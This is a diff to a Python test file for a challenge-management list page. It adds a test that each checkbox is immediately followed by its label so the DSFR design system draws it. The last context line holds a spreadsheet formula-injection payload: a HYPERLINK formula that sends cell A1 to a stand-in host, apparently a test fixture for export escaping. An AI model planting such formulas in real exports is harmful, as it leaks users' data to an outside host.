@@ -4,6 +4,7 @@ import io
 import re
 import zipfile
 from decimal import Decimal
+from html.parser import HTMLParser
 from zoneinfo import ZoneInfo
 
 import openpyxl
@@ -275,6 +276,38 @@ def test_the_bulk_form_is_on_the_list(manager_client, cases):
     # The reason and the hold option are asked on the confirmation page, once the action is known.
     assert 'for="select-page">Tout sélectionner sur cette page</label>' in html
     assert "Appliquer aux 4 défis qui correspondent au filtre, sur toutes les pages, cochés ou non" in html
+
+
+class _Tags(HTMLParser):
+    """The start tags of a page, in order, each with its attributes."""
+
+    def __init__(self):
+        super().__init__()
+        self.tags = []
+
+    def handle_starttag(self, tag, attrs):
+        self.tags.append((tag, dict(attrs)))
+
+
+def test_every_box_of_the_list_is_followed_by_its_label_so_that_dsfr_draws_it(manager_client, cases):
+    # DSFR draws a box from `.fr-checkbox-group input + label`: anything between them (the
+    # page's hidden rows once were) leaves an invisible box that cannot be ticked.
+    parser = _Tags()
+    parser.feed(manager_client.get(URL).content.decode())
+    tags = parser.tags
+    boxes = [i for i, (tag, attrs) in enumerate(tags) if tag == "input" and attrs.get("type") == "checkbox"]
+    rows = [i for i in boxes if tags[i][1].get("name") == "challenges"]
+    assert len(rows) == 4
+    for i in boxes:
+        tag, attrs = tags[i + 1]
+        assert (tag, attrs.get("for")) == ("label", tags[i][1]["id"]), tags[i]
+    # Each row's label holds the challenge's name for screen readers, and a box-sized area.
+    bases = cases["Bases adresses"].pk
+    label = next(tags[i + 1][1] for i in rows if tags[i][1]["value"] == str(bases))
+    assert label["style"] == "min-height: 1.5rem;"
+    # Without a script, the whole-page box still takes the page's rows (hidden, outside the boxes).
+    data = form_data(manager_client.get(URL).content.decode(), "bulk-form")
+    assert sorted(data["on_page"]) == sorted(str(pk) for pk in Challenge.objects.values_list("pk", flat=True))
 
 
 FORMULA = '=HYPERLINK("http://exemple.invalid/vol?"&A1,"Cliquez")'
